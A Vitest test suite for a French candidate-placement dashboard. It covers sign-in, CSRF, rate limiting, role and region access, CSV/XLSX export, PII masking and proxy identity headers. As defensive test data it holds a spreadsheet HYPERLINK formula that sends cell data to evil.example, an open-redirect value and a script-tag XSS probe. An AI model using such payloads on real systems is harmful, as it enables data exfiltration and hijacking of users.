import fs from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createDashboardFixture, PASSWORD, type DashboardFixture } from './test-support/fixture.ts';
import { csrfFrom, mergeCookies, signIn, startTestDashboard, type TestDashboard } from './test-support/http.ts';

let fixture: DashboardFixture;
let dashboard: TestDashboard;

beforeAll(async () => {
  fixture = await createDashboardFixture();
  dashboard = await startTestDashboard(fixture);
});

afterAll(async () => {
  await dashboard?.close();
  fixture?.cleanup();
});

const get = (path: string, cookies = '', headers: Record<string, string> = {}) =>
  fetch(`${dashboard.url}${path}`, { redirect: 'manual', headers: { cookie: cookies, ...headers } });

/** Session region and cities selecting exactly rows 3 and 4 of the fixture. */
const TWO_ROWS = new URLSearchParams([
  ['region_session', 'UI Paris Sud'],
  ['ville', 'Paris'],
  ['ville', 'Créteil'],
]).toString();

const leadIds = (page: string) => [...page.matchAll(/data-lead-id="(\d+)"/g)].map((match) => Number(match[1]));

describe('dashboard access', () => {
  it('sends visitors without a session to the sign-in page, and refuses fetches with 401', async () => {
    for (const path of ['/', '/export.csv', '/qualite', '/pipeline']) {
      const response = await get(path);
      expect(response.status, path).toBe(303);
      expect(response.headers.get('location')).toBe(`/connexion?suivant=${encodeURIComponent(path)}`);
    }
    expect((await get('/', '', { 'X-Requested-With': 'fetch' })).status).toBe(401);
  });

  it('refuses a sign-in without the CSRF token', async () => {
    const response = await fetch(`${dashboard.url}/connexion`, {
      method: 'POST',
      redirect: 'manual',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ login: 'admin', password: PASSWORD }),
    });
    expect(response.status).toBe(403);
    expect(response.headers.getSetCookie().some((cookie) => cookie.startsWith('placement_session='))).toBe(false);
  });

  it('sets an HttpOnly, SameSite=Lax session cookie and signs out with CSRF', async () => {
    const form = await fetch(`${dashboard.url}/connexion`);
    let cookies = mergeCookies('', form);
    const response = await fetch(`${dashboard.url}/connexion`, {
      method: 'POST',
      redirect: 'manual',
      headers: { cookie: cookies, 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ _csrf: csrfFrom(await form.text()), login: 'ADMIN', password: PASSWORD, next: '//evil.example' }),
    });
    expect(response.status).toBe(303);
    // An off-site "next" is replaced by the home page.
    expect(response.headers.get('location')).toBe('/');
    const session = response.headers.getSetCookie().find((cookie) => cookie.startsWith('placement_session='))!;
    expect(session).toMatch(/HttpOnly/);
    expect(session).toMatch(/SameSite=Lax/);
    cookies = mergeCookies(cookies, response);

    const page = await (await get('/', cookies)).text();
    const logout = await fetch(`${dashboard.url}/deconnexion`, {
      method: 'POST',
      redirect: 'manual',
      headers: { cookie: cookies, 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ _csrf: csrfFrom(page) }),
    });
    expect(logout.status).toBe(303);
    cookies = mergeCookies(cookies, logout);
    expect((await get('/', cookies)).status).toBe(303);
  });

  it('limits failed sign-ins per address and login', async () => {
    const attempt = async (password: string) => {
      const form = await fetch(`${dashboard.url}/connexion`);
      return fetch(`${dashboard.url}/connexion`, {
        method: 'POST',
        redirect: 'manual',
        headers: { cookie: mergeCookies('', form), 'content-type': 'application/x-www-form-urlencoded' },
        body: new URLSearchParams({ _csrf: csrfFrom(await form.text()), login: 'bloque', password }),
      });
    };
    for (let index = 0; index < 5; index += 1) expect((await attempt('wrong password')).status).toBe(401);
    const limited = await attempt(PASSWORD);
    expect(limited.status).toBe(429);
    expect(Number(limited.headers.get('retry-after'))).toBeGreaterThan(0);
  });
});

describe('candidate list', () => {
  it('filters by session region and shows remarks as text', async () => {
    const cookies = await signIn(dashboard.url, 'admin');
    const page = await (await get('/?region_session=UI+Paris+Sud', cookies)).text();
    // Rows 3 and 4, and every fourth generated row from the third.
    const expected = [3, 4, ...Array.from({ length: 10 }, (_, index) => 102 + index * 4)];
    expect(leadIds(page).sort((a, b) => a - b)).toEqual(expected);
    expect(page).toContain('data-total="12"');
    expect(leadIds(await (await get(`/?${TWO_ROWS}`, cookies)).text())).toEqual([3, 4]);

    const all = await (await get('/', cookies)).text();
    expect(all).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(all).not.toContain('<script>alert(1)');
    expect(all).toMatch(/Content-Security-Policy|<table id="candidates">/);
  });

  it('shows an account limited to some regions only their rows, whatever the URL asks', async () => {
    const cookies = await signIn(dashboard.url, 'lyon');
    const page = await (await get('/?taille=200', cookies)).text();
    const ids = leadIds(page);
    expect(ids.length).toBeGreaterThan(0);
    // Rows 1 and 2 and every fourth generated row are in UI Lyon Est.
    const expected = [1, 2, ...Array.from({ length: 10 }, (_, index) => 100 + index * 4)];
    expect(ids.sort((a, b) => a - b)).toEqual(expected);

    expect(leadIds(await (await get('/?region_session=UI+Paris+Sud', cookies)).text())).toEqual([]);
    const csv = await (await get('/export.csv?region_session=UI+Paris+Sud', cookies)).text();
    expect(csv.trim().split('\r\n')).toHaveLength(1);
  });

  it('hides the sensitive columns and their filters from accounts without the right', async () => {
    const cookies = await signIn(dashboard.url, 'sans-sensible');
    const page = await (await get('/?rqth=1', cookies)).text();
    expect(page).not.toMatch(/>QPV<|>RQTH<|name="rqth"/);
    // The toggle in the URL is ignored: every row in search is listed.
    expect(page).toContain('data-total="46"');
    const csv = await (await get('/export.csv', cookies)).text();
    const header = csv.split('\r\n')[0];
    expect(header).not.toMatch(/QPV|RSA|RQTH/);

    // Sorting on a hidden column would reveal its values through the row order.
    for (const column of ['qpv', 'rsa', 'rqth']) {
      const sorted = await (await get(`/?taille=200&tri=${column}&ordre=desc`, cookies)).text();
      const byName = await (await get('/?taille=200&tri=nom&ordre=desc', cookies)).text();
      expect(leadIds(sorted)).toEqual(leadIds(byName));
    }
  });

  it('refuses the export and the quality page to the read-only role', async () => {
    const cookies = await signIn(dashboard.url, 'lecteur');
    expect((await get('/export.csv', cookies)).status).toBe(403);
    expect((await get('/qualite', cookies)).status).toBe(403);
    const page = await (await get('/', cookies)).text();
    expect(page).not.toContain('id="export-csv"');
  });
});

describe('export', () => {
  it('writes exactly the filtered rows as CSV for French Excel, formulas neutralised, and logs who and what', async () => {
    const cookies = await signIn(dashboard.url, 'admin');
    const response = await get(`/export.csv?${TWO_ROWS}`, cookies);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="candidats-en-recherche-\d{4}-\d{2}-\d{2}\.csv"$/);
    const bytes = Buffer.from(await response.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.subarray(3).toString('utf8')).toBe(
      [
        'Fiche candidat;CV;Prénom;Nom;Formation;Email;Téléphone;Région;Ville;Région de la session;QPV;RSA;RQTH;Contrat alternance;Mobilité;Remarque',
        "http://odoo.test/web#id=3&model=crm.lead&view_type=form;http://odoo.test/web/content/1003?download=true;Chloé;Dubois;Chloé Dubois - Data Analyst;chloé.dubois@exemple.fr;06 00 00 00 03;Île-de-France;Paris;UI Paris Sud;Oui;Oui;Non;Contrat d'apprentissage;Régionale;\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Cliquez\"\")\"",
        "http://odoo.test/web#id=4&model=crm.lead&view_type=form;http://odoo.test/web/content/1004?download=true;Karim;Thomas;Karim Thomas - Data Analyst;\"'+33 6 12; \"\"test\"\"\";06 00 00 00 04;Île-de-France;Créteil;UI Paris Sud;Non;Non;Oui;Contrat d'apprentissage;Régionale;",
        '',
      ].join('\r\n'),
    );

    const xlsx = await get(`/export.xlsx?${TWO_ROWS}`, cookies);
    expect(xlsx.status).toBe(200);
    // An XLSX file is a ZIP archive.
    expect(Buffer.from(await xlsx.arrayBuffer()).subarray(0, 2).toString('latin1')).toBe('PK');

    await new Promise((resolve) => setTimeout(resolve, 200));
    const log = fs.readFileSync(dashboard.logFile, 'utf8');
    const exports = log
      .split('\n')
      .filter((line) => line.includes('"event":"export"'))
      .map((line) => JSON.parse(line));
    expect(exports.find((entry) => entry.login === 'admin' && entry.format === 'csv')).toMatchObject({
      login: 'admin',
      format: 'csv',
      filters: { region_session: ['UI Paris Sud'], ville: ['Paris', 'Créteil'] },
      rows: 2,
    });
    expect(log).not.toContain('chloé.dubois@exemple.fr');
  });
});

describe('status pages', () => {
  it('shows check results with masked examples and a trend', async () => {
    const cookies = await signIn(dashboard.url, 'admin');
    const page = await (await get('/qualite', cookies)).text();
    expect(page).toContain('fact_odoo_crm_opportunite__email_valid');
    expect(page).toContain('k***@***.fr');
    expect(page).toContain('06******78');
    expect(page).not.toContain('karim.thomas@exemple.fr');
    expect(page.match(/class="trend /g)).toHaveLength(4);
  });

  it('draws the asset graph with links to the run in the Temporal Web UI', async () => {
    const cookies = await signIn(dashboard.url, 'admin');
    const page = await (await get('/pipeline', cookies)).text();
    expect(page).toContain('<svg id="asset-graph"');
    expect(page).toContain('http://127.0.0.1:8233/namespaces/default/workflows/daily-2026-12-04/run-1/history');
    expect(page).toMatch(/data-asset="fact_odoo_crm_opportunite"/);
  });
});

describe('trusted identity header', () => {
  it('signs in the account named by the proxy header and refuses others', async () => {
    const proxied = await startTestDashboard(fixture, { DASHBOARD_TRUSTED_HEADER: 'X-Goog-Authenticated-User-Email' });
    try {
      const ask = (value?: string) =>
        fetch(`${proxied.url}/`, { redirect: 'manual', headers: value ? { 'X-Goog-Authenticated-User-Email': value } : {} });
      expect((await ask('accounts.google.com:lyon')).status).toBe(200);
      expect((await ask('accounts.google.com:stranger@example.org')).status).toBe(403);
      expect((await ask()).status).toBe(401);
    } finally {
      await proxied.close();
    }
  });
});
